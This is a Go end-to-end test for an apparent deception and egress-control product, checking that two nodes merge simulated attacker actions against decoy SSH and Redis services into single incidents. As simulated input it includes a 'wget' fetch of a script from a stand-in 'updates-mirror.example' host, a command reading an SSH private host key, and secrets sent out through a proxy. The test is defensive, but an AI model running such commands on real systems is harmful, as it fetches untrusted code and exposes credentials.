//go:build servers

package e2e

import (
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"go.cordon.dev/cordon/internal/bus/natsbus/natstest"
	"go.cordon.dev/cordon/internal/store/storetest/dbserver"
	"go.cordon.dev/cordon/internal/testdebian"
	"go.cordon.dev/cordon/internal/testport"
)

// site is one of two nodes with one PostgreSQL and one NATS: each has a decky, a gateway
// and a folder that it watches.
type site struct {
	*snare
	drop, redis string
}

func newSites(t *testing.T, hook *receiver) [2]*site {
	db, nats := dbserver.Postgres(t), natstest.Start(t, "", "", "")
	var both [2]*site
	for k, name := range []string{"one", "two"} {
		s := &site{snare: &snare{gateway: &gateway{proxy: testport.Addr(t)}, hook: hook, dir: t.TempDir()}}
		s.drop, s.policy = filepath.Join(s.dir, "drop"), filepath.Join(s.dir, "policy.yaml")
		mustDo(t, os.Mkdir(s.drop, 0o755))
		mustDo(t, os.WriteFile(s.policy, []byte("mode: strict\ndefault_policy: deny\nglobal: {network_enabled: true}\nallowlist: {rules: [{id: here, host: 127.0.0.0/8}]}\n"), 0o600))
		for _, port := range []*string{&s.ssh, &s.http, &s.redis} {
			_, *port, _ = strings.Cut(testport.Addr(t), ":")
		}
		config := fmt.Sprintf(`
node: {name: %s}
fingerprint: {key: "env:E2E_KEY", sealing_key: "env:E2E_KEY"}
bus: {url: "nats://%s"}
%segress: {listen: %q, policy: %q, log_dir: %q}
leak: {sources: [{id: drop-%s, kind: dir, path: %q}]}
deception:
  deckies:
    - name: trap-%s
      archetype: linux-server
      address: 127.0.0.1
      services:
        - {kind: ssh, port: %s, config: {accept: {users: [root], passwords: [%q]}}}
        - {kind: http, port: %s}
        - {kind: redis, port: %s}
notify: {webhooks: [{id: soc, url: %q, secret: "env:E2E_SIGNING_SECRET", topics: ["incident.*.opened"], allow_private: true}]}
`, name, nats.Addr(), storeFromEnv, s.proxy, s.policy, filepath.Join(s.dir, "record"), name, s.drop, name, s.ssh, trapPassword, s.http, s.redis, hook.URL)
		if k == 0 {
			s.node = newNode(t, config, "E2E_STORE_URL="+db.URL(t), "E2E_KEY="+strings.Repeat("3d", 32))
		} else {
			s.node = newPeer(t, both[0].node, config)
		}
		both[k] = s
	}
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("output of one:\n%s\noutput of two:\n%s", both[0].output(), both[1].output())
		}
	})
	return both
}

// check is mustDo for goroutines beside the test's own.
func (s *site) check(what string, err error) {
	s.t.Helper()
	if err != nil {
		s.t.Errorf("%s: %v", what, err)
	}
}

// leak has the node's folder hold a secret.
func (s *site) leak(secret string) {
	name := fmt.Sprintf("%x", rand.Uint64())
	s.check("leak", os.WriteFile(filepath.Join(s.dir, name), []byte("token: "+secret+"\n"), 0o644))
	s.check("leak", os.Rename(filepath.Join(s.dir, name), filepath.Join(s.drop, name+".txt")))
}

// try tries it on the node's decky.
func (s *site) try(secret string) {
	out, err := exec.Command(testdebian.Program(s.t, "redis-tools", "redis-cli"), "-p", s.redis, "AUTH", secret).CombinedOutput()
	if err != nil || !strings.Contains(string(out), "ERR AUTH") {
		s.t.Errorf("redis-cli: %v\n%s", err, out)
	}
}

// send sends it through the node's gateway.
func (s *site) send(secret, to string) {
	file := filepath.Join(s.dir, fmt.Sprintf("%x", rand.Uint64()))
	s.check("send", os.WriteFile(file, []byte(secret), 0o600))
	s.ask("a secret was found", "--data-binary", "@"+file, to)
}

// want asks the node's gateway for a host that nobody may reach.
func (s *site) want(host string) { s.ask(host, "http://"+host+"/x.sh") }

func (s *site) ask(says string, args ...string) {
	s.t.Helper()
	out, err := exec.Command(testdebian.Program(s.t, "curl", "curl"), append([]string{"-s", "-x", "http://" + s.proxy}, args...)...).CombinedOutput()
	if err != nil || !strings.Contains(string(out), says) {
		s.t.Errorf("curl: %v\n%s", err, out)
	}
}

// guess reports failed logins of an address to the node.
func (s *site) guess(from string) {
	var records []map[string]any
	for i := range 12 {
		records = append(records, map[string]any{"kind": "auth_failed", "time": time.Now().Add(time.Duration(i-12) * time.Second).UTC(), "source_ip": from, "user": "root"})
	}
	body, err := json.Marshal(records)
	s.check("guess", err)
	if status, answer := s.post("/api/v1/events", string(body)); status != http.StatusAccepted {
		s.t.Errorf("%d %s", status, answer)
	}
}

// useKey asks the node's API for something, from an address.
func (s *site) useKey(from string) {
	client := http.Client{Transport: &http.Transport{DisableKeepAlives: true, DialContext: (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}}).DialContext}, Timeout: time.Minute}
	req, err := http.NewRequest(http.MethodGet, "http://"+s.addr+"/api/v1/quarantine", nil)
	s.check("use a key", err)
	req.Header.Set("Authorization", "Bearer "+s.key)
	r, err := client.Do(req)
	if err != nil || r.StatusCode != http.StatusOK {
		s.t.Errorf("the API answers %+v, %v", r, err)
		return
	}
	s.check("use a key", r.Body.Close())
}

// fact is something that happens at a node, and the event that tells of it: its topic,
// and what stands in it.
type fact struct {
	do           func()
	topic, holds string
}

// joined is what three facts are to become.
type joined struct {
	facts [3]fact
	want  string // the join and the sensors
}

// scene is what the facts of a test are made of.
type scene struct {
	sites  [2]*site
	origin string
	from   string
}

func (c scene) leaked(at int, secret string) fact {
	return fact{func() { c.sites[at%2].leak(secret) }, "leak.message.quarantined", ""}
}

func (c scene) tried(at int, secret string) fact {
	return fact{func() { c.sites[at%2].try(secret) }, "credential.captured", `"service":"redis"`}
}

func (c scene) sent(at int, secret string) fact {
	return fact{func() { c.sites[at%2].send(secret, c.origin) }, "egress.leak.blocked", ""}
}

func (c scene) named(at int, host string) fact {
	return fact{func() { c.sites[at%2].login("wget -q http://" + host + "/x.sh") }, "decky.*.traffic", `"hosts":[`}
}

func (c scene) wanted(at int, host string) fact {
	return fact{func() { c.sites[at%2].want(host) }, "egress.connection.denied", `"host":"` + host + `"`}
}

// all are three facts for each join, at nodes in turn: of a leaked secret in every order,
// of the others as a planted secret, a host and an address may have it.
func (c scene) all() (all []joined) {
	r := rand.New(rand.NewPCG(11, 12))
	for n, order := range [][3]int{{0, 1, 2}, {0, 2, 1}, {1, 0, 2}, {1, 2, 0}, {2, 0, 1}, {2, 1, 0}} {
		j, key := joined{want: "leaked_secret_in_use deception+egress+leak"}, awsKey(r)
		for k, what := range order {
			j.facts[k] = []func(int, string) fact{c.leaked, c.tried, c.sent}[what](k+n, key)
		}
		all = append(all, j)
	}
	for at := range c.sites {
		key := c.sites[at].login("cat /etc/ssh/ssh_host_ed25519_key")
		seen := []fact{c.leaked(at+1, key), c.sent(at, key), c.leaked(at, key)}
		host := fmt.Sprintf("cdn-%d.updates-mirror.example", at)
		wish := []fact{c.named(at+1, host), c.wanted(at, host), c.wanted(at+1, host)}
		if at == 1 {
			slices.Reverse(seen)
			wish[0], wish[1] = wish[1], wish[0]
		}
		all = append(all, joined{[3]fact(seen), "planted_secret_seen egress+leak"}, joined{[3]fact(wish), "attackers_host_wanted deception+egress"})
	}
	return append(all, joined{[3]fact{
		{func() { c.sites[0].guess(c.from) }, "anomaly.*.detected", c.from},
		{func() { c.sites[1].touch(c.from) }, "attacker.session.started", `"source_ip":"` + c.from},
		{func() { c.sites[0].useKey(c.from) }, "apikey.used", c.from},
	}, "attacker_used_api_key access+anomaly+deception"})
}

// seen counts the events that tell of a fact, or of another like it.
func (s *site) seen(f fact) (n int) {
	items, _ := s.list("/api/v1/events?limit=100&topic=" + url.QueryEscape(f.topic))
	for _, i := range items {
		data, err := json.Marshal(i)
		mustDo(s.t, err)
		if strings.Contains(string(data), f.holds) {
			n++
		}
	}
	return n
}

// Three facts of one thing arrive at two nodes, in every order, with a kill -9 of one node
// before the last of them, which both nodes take at once: it is one incident, told once.
func TestTwoNodesMakeOneIncident(t *testing.T) {
	t.Parallel()
	hook := newReceiver(t, signingSecret())
	c := scene{sites: newSites(t, hook), from: outside(t)}
	origin := httptest.NewServer(http.NotFoundHandler())
	t.Cleanup(origin.Close)
	c.origin = origin.URL
	for _, s := range c.sites {
		s.start()
		eventually(t, 2*time.Minute, "the decky to be known", func() bool { return strings.Contains(s.output(), "secrets that deckies hold are recognised") })
	}
	all := c.all()
	for step := range 2 {
		c.step(all, step)
	}
	c.sites[1].kill()
	c.sites[1].start()
	var last sync.WaitGroup
	for _, j := range all {
		last.Go(j.facts[2].do)
	}
	last.Wait()

	want := map[string]int{}
	for _, j := range all {
		want[j.want]++
	}
	got := func() map[string]int {
		got := map[string]int{}
		for _, i := range c.sites[0].incidents().Items {
			got[i.Join+" "+strings.Join(i.Sensors, "+")]++
		}
		return got
	}
	for end := time.Now().Add(time.Minute); !maps.Equal(got(), want) && time.Now().Before(end); {
		time.Sleep(100 * time.Millisecond)
	}
	if got := got(); !maps.Equal(got, want) {
		t.Errorf("incidents\n%v\nwant\n%v", got, want)
	}
	eventually(t, time.Minute, "the webhooks", func() bool { return hook.distinct() >= len(all) })
	for _, s := range c.sites {
		s.stop()
	}
	if n := hook.distinct(); n != len(all) || len(hook.bad) > 0 {
		t.Errorf("%d incidents were told of, want %d; bad signatures %v", n, len(all), hook.bad)
	}
}

// step has the next fact of each happen, and waits until all are in the store.
func (c scene) step(all []joined, step int) {
	c.sites[0].t.Helper()
	type kind struct{ topic, holds string }
	want, facts := map[kind]int{}, map[kind]fact{}
	for _, j := range all {
		f := j.facts[step]
		k := kind{f.topic, f.holds}
		if facts[k].do == nil {
			want[k], facts[k] = c.sites[0].seen(f), f
		}
		want[k]++
	}
	for _, j := range all {
		j.facts[step].do()
	}
	for k, f := range facts {
		eventually(c.sites[0].t, time.Minute, fmt.Sprintf("%d events %s %s", want[k], k.topic, k.holds), func() bool { return c.sites[0].seen(f) >= want[k] })
	}
}
